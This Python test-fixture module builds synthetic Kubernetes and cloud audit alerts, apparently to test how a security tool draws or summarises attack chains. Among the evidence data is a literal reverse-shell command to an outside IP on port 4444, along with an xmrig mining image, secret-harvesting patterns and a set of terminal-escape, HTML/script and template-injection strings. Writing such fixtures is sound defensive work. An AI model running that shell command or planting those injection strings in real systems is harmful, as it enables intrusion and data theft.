"""Alerts with chains of 3, 10 and 60 events, across cloud and cluster, for those who draw or tell them."""

import copy
import json
from pathlib import Path

EXAMPLE = Path(__file__).resolve().parents[2] / "schemas" / "examples" / "alerts" / "privileged-container.json"
START = 1_790_000_000_000_000  # microseconds
ROLE = "arn:aws:sts::111122223333:assumed-role/ci-deploy/pipeline-48213"
PERSON = "arn:aws:sts::111122223333:assumed-role/contractor/tomas.vogel"


def event(at_s, actor, action, thing, source="eks-audit", http=200, matched=(), rule="pod-exec"):
    """An item of evidence; `matched` are (field, value, changed)."""
    item = copy.deepcopy(json.loads(EXAMPLE.read_text(encoding="utf-8"))["evidence"][0])
    time = START + int(at_s * 1_000_000)
    return {
        **item,
        "event_id": f"{time:032x}",
        "time": time,
        "actor": actor,
        "action": action,
        "object": thing,
        "summary": f"{actor} {action} {thing}",
        "http": http,
        "rule": rule,
        "clause": "writes, effective",
        "matched": [{"field": f, "value": v, "changed": c} for f, v, c in matched],
        "source": {**item["source"], "format": source},
        "topic": "audit.events",
        "partition": 3,
        "offset": 41_000 + int(at_s),
    }


def alert(events, title, level="critical", rule="exec-by-new-role"):
    """A correlation's alert of these events."""
    found = copy.deepcopy(json.loads(EXAMPLE.read_text(encoding="utf-8")))
    return {
        **found,
        "level": level,
        "title": title,
        "time": events[-1]["time"],
        "rule": {**found["rule"], "name": rule, "title": title.partition(":")[0]},
        "joins": ["reason"],
        "modifiers": [],
        "evidence": events,
    }


def three():
    """A role, its binding, its use."""
    grants = ("facts.role.rules.grants", "exec", True)
    rules = ("facts.role.rules", "verbs=get,create groups= resources=pods/exec", True)
    bound = [
        ("facts.binding.role", "ClusterRole metrics-reader-ext", True),
        ("facts.binding.subjects", "Group contractors", True),
    ]
    opened = [("facts.exec.command_text", "bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'", False)]
    return alert(
        [
            event(
                0,
                ROLE,
                "create clusterroles.rbac.authorization.k8s.io",
                "metrics-reader-ext",
                matched=[grants, rules],
                rule="cluster-role-exec",
            ),
            event(
                7,
                ROLE,
                "create clusterrolebindings.rbac.authorization.k8s.io",
                "metrics-reader-ext",
                matched=bound,
                rule="role-bound",
            ),
            event(147, PERSON, "get pods/exec", "payments/ledger-api-6c9f7d5b8-x2vkq", matched=opened),
        ],
        "A new role's exec power was used: ci-deploy/pipeline-48213, then contractor/tomas.vogel",
    )


def ten():
    """From the cloud into the cluster and back."""
    admin = "arn:aws:sts::111122223333:assumed-role/platform-admin/jo"
    account = "system:serviceaccount:payments:ledger-api"
    access = [
        ("facts.cloud_access.principal_arn", "arn:aws:iam::111122223333:role/contractor", True),
        ("facts.cloud_access.policy", "AmazonEKSClusterAdminPolicy", True),
        ("facts.cloud_access.scope", "cluster", True),
    ]
    pod = [
        ("facts.pod.host_pid", "true", True),
        ("facts.pod.containers.privileged", "true", True),
        ("facts.pod.volumes.host_path", "/", True),
    ]
    return alert(
        [
            event(0, admin, "eks:CreateAccessEntry", "", "cloudtrail", 0, access[:1], "access-entry-made"),
            event(4, admin, "eks:AssociateAccessPolicy", "", "cloudtrail", 0, access, "access-entry-made"),
            event(9_400, PERSON, "list secrets", "", http=403, rule="secrets-listed"),
            event(9_402.2, PERSON, "create selfsubjectrulesreviews.authorization.k8s.io", "", rule="access-review"),
            event(9_402.25, PERSON, "get pods/exec", "payments/ledger-api-6c9f7d5b8-x2vkq", rule="pod-exec"),
            event(
                9_404,
                "",
                "falco:Terminal-shell-in-container",
                "payments/ledger-api-6c9f7d5b8-x2vkq",
                "falco",
                0,
                [("signal.command_line", "bash -i", False)],
                "shell-seen",
            ),
            event(9_460, account, "create serviceaccounts/token", "payments/ledger-api"),
            event(
                9_466,
                account,
                "create daemonsets.apps",
                "kube-system/node-sync",
                matched=pod,
                rule="privileged-container",
            ),
            event(9_530, account, "s3:GetObject", "", "cloudtrail", 0, rule="sensitive-action"),
            event(
                9_534,
                account,
                "patch deployments.apps",
                "payments/report-worker",
                matched=[("facts.pod.containers.image_repo", "xmrig/xmrig", True)],
                rule="crypto-mining-image",
            ),
        ],
        "Access from the cloud, used: platform-admin/jo, then contractor/tomas.vogel, then ledger-api",
        rule="cloud-access-used",
    )


def sixty():
    """A sweep: refusals, secrets read one by one, and then what they were for."""
    sweep = "system:serviceaccount:etl:loader"
    events = [event(2 * n, sweep, "list secrets", f"ns-{n}", http=403, rule="request-refused") for n in range(14)]
    events += [
        event(40 + n * 1.5, sweep, "get secrets", f"ns-{n % 5}/token-{n}", rule="secret-read") for n in range(30)
    ]
    events += [
        event(
            900 + 11 * n,
            ("deployer@example.com", sweep)[n % 2],
            ("get pods", "create pods/exec")[n % 2],
            f"etl/loader-{n}",
        )
        for n in range(10)
    ]
    events += [
        event(
            1100,
            "deployer@example.com",
            "container.googleapis.com:SetIamPolicy",
            "",
            "gke-logentry",
            0,
            [("facts.cloud_link.identity", "root@example.iam.gserviceaccount.com", True)],
        )
    ]
    events += [
        event(1110 + n, sweep, "delete deployments.apps", f"etl/job-{n}", rule="workload-deleted") for n in range(4)
    ]
    events += [
        event(
            1200,
            sweep,
            "create clusterrolebindings.rbac.authorization.k8s.io",
            "breakfast",
            matched=[("facts.binding.subjects", "User system:anonymous", True)],
            rule="anonymous-binding",
        )
    ]
    return alert(events, "Many secrets read one by one: etl/loader (60 events)", "high", "secret-harvest")


def hostile(found):
    """The same with an attacker's names in it."""
    bad = (
        "\x1b[2J\x1b[31mroot\x07",
        "\u202egnp.exe\u2066<script>alert(1)</script>",
        "</text></svg><h1 onclick=x>forged</h1>" + "A" * 4_000,
        "e\u0301\u0300\u0301" * 40 + "東京" * 200,
        "\u05d0\u05d1\u05d2 admin \u05d3\u05d4]]>&amp;{{7*7}}",
    )
    names = list(dict.fromkeys(e["actor"] for e in found["evidence"]))
    events = []
    for n, item in enumerate(found["evidence"]):
        actor = bad[names.index(item["actor"]) % len(bad)]
        thing = bad[n % len(bad)]
        facts = [{**m, "value": bad[(n + 2) % len(bad)]} for m in item["matched"]]
        events.append({**item, "actor": actor, "object": thing, "summary": f"{actor} {thing}", "matched": facts})
    return {
        **found,
        "title": bad[1] + found["title"] + bad[2],
        "evidence": events,
        "cluster": {**found["cluster"], "id": bad[2], "name": bad[0]},
    }
